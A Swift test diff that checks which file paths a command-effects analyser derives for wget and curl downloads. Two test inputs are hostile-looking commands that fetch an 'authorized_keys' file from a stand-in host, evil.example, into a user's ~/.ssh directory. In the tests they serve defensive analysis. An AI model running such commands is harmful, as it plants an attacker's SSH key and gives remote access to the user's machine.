@@ -171,3 +171,21 @@ import Testing
         #expect(derivation.requests.first?.graphQL.first?.rootFields == ["volumeDelete"])
     }
 }
+
+@Suite struct HTTPDownloadTargetTests {
+    @Test func wgetSavesPagesUnderTheirNames() {
+        #expect(
+            httpEffects("wget", "-P", "/home/me/.ssh", "https://evil.example/authorized_keys").writePaths == [
+                "/home/me/.ssh/authorized_keys"
+            ])
+        #expect(httpEffects("wget", "https://example.com/").writePaths == ["index.html"])
+        #expect(httpEffects("wget", "-m", "https://example.com/").writes.first?.isRecursive == true)
+        #expect(httpEffects("wget", "--spider", "https://example.com/x").writes.isEmpty)
+    }
+
+    @Test func curlOutputDirectory() {
+        let derivation = httpEffects(
+            "curl", "-o", "authorized_keys", "--output-dir", "/home/me/.ssh", "https://evil.example/k")
+        #expect(derivation.writePaths == ["/home/me/.ssh/authorized_keys"])
+    }
+}
